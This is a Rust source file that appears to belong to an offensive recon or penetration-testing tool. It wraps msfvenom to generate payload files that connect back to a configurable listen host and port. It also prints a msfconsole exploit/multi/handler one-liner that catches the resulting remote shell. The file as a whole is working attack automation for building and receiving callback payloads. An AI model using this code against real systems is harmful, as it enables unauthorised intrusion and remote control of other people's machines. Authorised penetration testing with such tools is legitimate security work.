//! Payload generation collaborator.

use std::path::PathBuf;
use std::sync::Arc;

use async_trait::async_trait;
use reconr_common::error::ToolError;
use tracing::debug;

use crate::policy::PayloadJob;
use crate::process::{CommandSpec, ProcessRunner};

/// Builds one payload per [`PayloadJob`].
#[async_trait]
pub trait PayloadGenerator: Send + Sync {
    /// Returns the path of the generated payload.
    async fn generate(&self, job: &PayloadJob) -> Result<PathBuf, ToolError>;
}

/// Generates payloads with `msfvenom`.
pub struct Msfvenom {
    runner: Arc<dyn ProcessRunner>,
    binary: String,
}

impl Msfvenom {
    pub fn new(runner: Arc<dyn ProcessRunner>, binary: impl Into<String>) -> Self {
        Self {
            runner,
            binary: binary.into(),
        }
    }

    pub fn command(&self, job: &PayloadJob) -> CommandSpec {
        CommandSpec::new(&self.binary)
            .arg("-p")
            .arg(&job.payload)
            .arg(format!("LHOST={}", job.listen_host))
            .arg(format!("LPORT={}", job.listen_port))
            .arg("-f")
            .arg(job.format.as_str())
            .arg("-o")
            .arg(job.output.to_string_lossy())
    }
}

#[async_trait]
impl PayloadGenerator for Msfvenom {
    async fn generate(&self, job: &PayloadJob) -> Result<PathBuf, ToolError> {
        let tool = self.binary.clone();
        if self.runner.locate(&tool).is_none() {
            return Err(ToolError::ToolMissing { tool });
        }

        let command = self.command(job);
        debug!("Generating {} payload: {command}", job.format);

        let output = self
            .runner
            .run(&command)
            .await
            .map_err(|source| ToolError::Launch {
                tool: tool.clone(),
                source,
            })?;

        match output.code {
            Some(0) => Ok(job.output.clone()),
            Some(code) => Err(ToolError::NonZeroExit { tool, code }),
            None => Err(ToolError::Terminated { tool }),
        }
    }
}

/// The `msfconsole` one-liner that catches a generated payload.
pub fn listener_hint(job: &PayloadJob) -> String {
    format!(
        "msfconsole -q -x 'use exploit/multi/handler; set payload {}; set LHOST {}; set LPORT {}; run'",
        job.payload, job.listen_host, job.listen_port
    )
}
